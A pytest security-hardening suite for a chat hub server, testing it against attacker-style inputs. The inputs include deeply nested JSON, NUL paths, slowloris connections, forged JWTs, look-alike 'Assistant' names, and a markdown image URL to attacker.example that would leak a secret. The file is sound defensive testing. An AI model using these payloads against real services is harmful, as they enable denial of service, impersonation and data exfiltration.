"""The hardening list of issue 11, each tried as an attacker would, on a hub on a real port."""

from __future__ import annotations

import asyncio
import contextlib
import json
import os
import subprocess
import sys
import time

import jwt
import pytest
from aiohttp.test_utils import TestServer

from hub.broker.base import BrokerError
from hub.render import render_markdown
from hub.web.app import create_app
from hub.web.keys import HUB
from hub.web.security import runner_options
from tests.conftest import SECRET, HubFactory, HubUnderTest, make_settings
from tests.support.wsclient import connect

NESTED = "[" * 20_000 + "]" * 20_000


@pytest.fixture
def broker_url() -> str:
    """Nothing here depends on the broker: the embedded one is enough."""
    return "memory://"


async def test_deeply_nested_json_frame_is_a_bad_frame_and_the_socket_stays(
    hub: HubUnderTest,
) -> None:
    client = await hub.connect("ann")
    await client.ws.send_str('{"type":"send","text":' + NESTED + "}")
    assert (await client.expect("error"))["code"] == "bad_frame"
    await client.send(type="ping", ref="alive")
    await client.expect("pong", ref="alive")


async def test_deeply_nested_json_body_is_a_json_400(hub: HubUnderTest) -> None:
    async with hub.session.post(f"{hub.url}/api/login", data=NESTED) as resp:
        assert resp.status == 400
        assert (await resp.json())["error"]["code"] == "bad_frame"


async def test_nul_in_a_path_is_a_404_not_a_traceback(hub: HubUnderTest) -> None:
    async with hub.session.get(f"{hub.url}/x%00") as resp:
        assert resp.status == 404
        assert (await resp.json())["error"]["code"] == "not_found"


async def test_a_body_past_the_limit_gets_the_json_error_shape(hub: HubUnderTest) -> None:
    body = json.dumps({"name": "x" * (hub.settings.max_frame * 5)})
    async with hub.session.post(f"{hub.url}/api/login", data=body) as resp:
        assert resp.status == 413
        assert (await resp.json())["error"]["code"] == "too_long"


@pytest.mark.parametrize("path", ["/", "/hub-chat.js", "/api/history", "/api/login", "/nope"])
async def test_security_headers_on_pages_api_and_errors(hub: HubUnderTest, path: str) -> None:
    method = "POST" if path == "/api/login" else "GET"
    async with hub.session.request(method, hub.url + path, json={"name": "Ann"}) as resp:
        csp = resp.headers["Content-Security-Policy"]
        assert "img-src 'self' data:" in csp
        assert "frame-ancestors 'self'" in csp
        assert "script-src 'self'" in csp
        assert resp.headers["X-Content-Type-Options"] == "nosniff"
        assert resp.headers["X-Frame-Options"] == "SAMEORIGIN"
        assert resp.headers["Referrer-Policy"] == "no-referrer"
        assert resp.headers["Server"] == "hub"


async def test_frame_ancestors_lists_the_allowed_origins(start_hub: HubFactory) -> None:
    hub = await start_hub(allowed_origins="https://shop.example, https://blog.example")
    async with hub.session.get(hub.url + "/") as resp:
        csp = resp.headers["Content-Security-Policy"]
        assert "frame-ancestors 'self' https://shop.example https://blog.example" in csp
        assert "X-Frame-Options" not in resp.headers


async def test_a_parser_error_names_no_server_version(hub: HubUnderTest) -> None:
    reader, writer = await asyncio.open_connection(hub.server.host, hub.server.port)
    writer.write(b"GET / HTTP/1.1\r\nHost: x\r\nBad Header\r\n\r\n")
    head = (await reader.read(4096)).decode(errors="replace")
    writer.close()
    assert " 400 " in head.split("\r\n")[0]
    server = [line for line in head.split("\r\n") if line.lower().startswith("server:")]
    assert server == ["Server: hub"]


@pytest.mark.parametrize("path", ["/metrics", "/health"])
async def test_metrics_and_health_are_not_readable_by_other_sites(
    hub: HubUnderTest, path: str
) -> None:
    async with hub.session.get(hub.url + path, headers={"Origin": "https://evil.example"}) as r:
        assert r.status == 200
        assert "Access-Control-Allow-Origin" not in r.headers


async def test_metrics_behind_a_key(start_hub: HubFactory) -> None:
    hub = await start_hub(metrics_key="scrape-key-0123456789")
    async with hub.session.get(hub.url + "/metrics") as resp:
        assert resp.status == 401
    headers = {"Authorization": "Bearer scrape-key-0123456789"}
    async with hub.session.get(hub.url + "/metrics", headers=headers) as resp:
        assert resp.status == 200
        assert "hub_connections" in await resp.text()


def _forged(sub: str, **claims: object) -> str:
    now = int(time.time())
    return jwt.encode({"sub": sub, "iat": now, "exp": now + 60, **claims}, SECRET, "HS256")


@pytest.mark.parametrize(
    "token",
    [
        _forged("alice\n"),
        _forged("alice", exp=10**30),
        _forged("alice", iat=int(time.time()) + 3600),
        _forged("alice", rooms="lobby"),
    ],
    ids=["newline-sub", "endless", "issued-later", "rooms-not-a-list"],
)
async def test_tokens_a_host_could_mint_by_mistake_are_refused(
    hub: HubUnderTest, token: str
) -> None:
    ws = await hub.session.ws_connect(hub.ws_url)
    await ws.send_json({"type": "hello", "token": token})
    error = json.loads((await ws.receive(timeout=5)).data)
    assert error["code"] == "unauthorized"
    await ws.receive(timeout=5)
    assert ws.close_code == 4001
    async with hub.session.get(
        f"{hub.url}/api/history", headers={"Authorization": f"Bearer {token}"}
    ) as resp:
        assert resp.status == 401


async def test_stream_ids_past_64_bits_are_invalid(hub: HubUnderTest) -> None:
    huge = f"{2**64}-0"
    client = await hub.connect("ann")
    await client.send(type="history", channel="dm:ann", before=huge, ref="h")
    assert (await client.expect("error", ref="h"))["code"] == "invalid"
    headers = {"Authorization": f"Bearer {hub.token('ann')}"}
    async with hub.session.get(
        f"{hub.url}/api/history", params={"before": huge}, headers=headers
    ) as resp:
        assert resp.status == 400
    ws = await hub.session.ws_connect(hub.ws_url)
    await ws.send_json({"type": "hello", "token": hub.token("ann"), "resume": {"dm:ann": huge}})
    assert json.loads((await ws.receive(timeout=5)).data)["code"] == "invalid"
    await ws.close()


@pytest.mark.parametrize(
    "name",
    [
        "Assistant",
        " system ",
        "HUB",
        "Ａｓｓｉｓｔａｎｔ",
        "\u202eevil",
        "\u200b\u200b",
        "\u3164",
        "a\u2066b",
    ],
)
async def test_guests_cannot_pass_for_the_hub_or_hide_their_name(
    hub: HubUnderTest, name: str
) -> None:
    async with hub.session.post(f"{hub.url}/api/login", json={"name": name}) as resp:
        assert resp.status == 400, name
        assert (await resp.json())["error"]["code"] == "invalid"


async def test_emoji_names_still_work(hub: HubUnderTest) -> None:
    async with hub.session.post(f"{hub.url}/api/login", json={"name": "Ann 👩\u200d💻"}) as resp:
        assert resp.status == 200
        assert (await resp.json())["user"]["name"] == "Ann 👩\u200d💻"


async def test_images_in_assistant_markdown_come_out_as_links(hub: HubUnderTest) -> None:
    client = await hub.connect("ann")
    leak = "![x](https://attacker.example/leak?q=secret)"
    await client.send(type="send", text=leak, ref="m")
    _deltas, done = await client.reply("dm:ann")
    assert "<img" not in done["html"]
    assert '<a href="https://attacker.example/leak?q=secret"' in done["html"]
    assert "<img" not in render_markdown("![a][r]\n\n[r]: https://x/y.png")


async def test_slowloris_connections_are_closed_by_the_worker() -> None:
    settings = make_settings(header_timeout=0.5)
    server = TestServer(create_app(settings))
    await server.start_server(**runner_options(settings))
    held = []
    try:
        for _ in range(50):
            reader, writer = await asyncio.open_connection(server.host, server.port)
            writer.write(b"GET / HTTP/1.1\r\nHost: x\r\nX-Slow: ")
            held.append((reader, writer))
        closed = 0
        for reader, _writer in held:
            with contextlib.suppress(TimeoutError):
                closed += await asyncio.wait_for(reader.read(), 10.0) == b""
        assert closed == 50
    finally:
        for _reader, writer in held:
            writer.close()
        await server.close()


def _run_hub(env: dict[str, str]) -> subprocess.CompletedProcess[str]:
    clean = {k: v for k, v in os.environ.items() if not k.startswith("HUB_")}
    return subprocess.run(
        [sys.executable, "-m", "hub", "serve", "--port", "0"],
        env={**clean, **env},
        capture_output=True,
        text=True,
        timeout=30,
    )


def test_a_short_secret_stops_the_hub_with_a_clear_message() -> None:
    done = _run_hub({"HUB_SECRET": "x"})
    assert done.returncode == 2
    assert "HUB_SECRET: " in done.stderr and "at least 32 bytes" in done.stderr
    assert "'x'" not in done.stderr


def test_a_mistyped_broker_url_is_not_echoed_with_its_password() -> None:
    done = _run_hub({"HUB_SECRET": SECRET, "HUB_BROKER_URL": "redis//:hunter2@db:6379"})
    assert done.returncode == 2
    assert "HUB_BROKER_URL" in done.stderr
    assert "hunter2" not in done.stderr


def test_the_token_ttl_may_not_exceed_the_maximum_lifetime() -> None:
    done = _run_hub({"HUB_SECRET": SECRET, "HUB_TOKEN_TTL": "100", "HUB_TOKEN_MAX_TTL": "50"})
    assert done.returncode == 2
    assert "HUB_TOKEN_MAX_TTL" in done.stderr


async def test_a_guest_token_is_marked_guest(hub: HubUnderTest) -> None:
    async with hub.session.post(f"{hub.url}/api/login", json={"name": "Gus"}) as resp:
        token = (await resp.json())["token"]
    client = await connect(hub.session, hub.ws_url, token)
    assert "guest" not in client.welcome["user"]
    assert jwt.decode(token, SECRET, algorithms=["HS256"])["guest"] is True


async def test_a_broker_failure_does_not_show_its_address_to_clients(
    hub: HubUnderTest, monkeypatch: pytest.MonkeyPatch
) -> None:
    async def unreachable(*args: object, **kwargs: object) -> None:
        raise BrokerError("Redis at 10.1.2.3:6379 could not read history: Connection refused.")

    client = await hub.connect("ann")
    # The reply reads the conversation first: that read fails.
    monkeypatch.setattr(hub.app[HUB].broker, "history", unreachable)
    await client.send(type="send", text="hello?", ref="m")
    error = await client.expect("error", code="unavailable")
    assert "10.1.2.3" not in error["message"] and "Redis" not in error["message"]
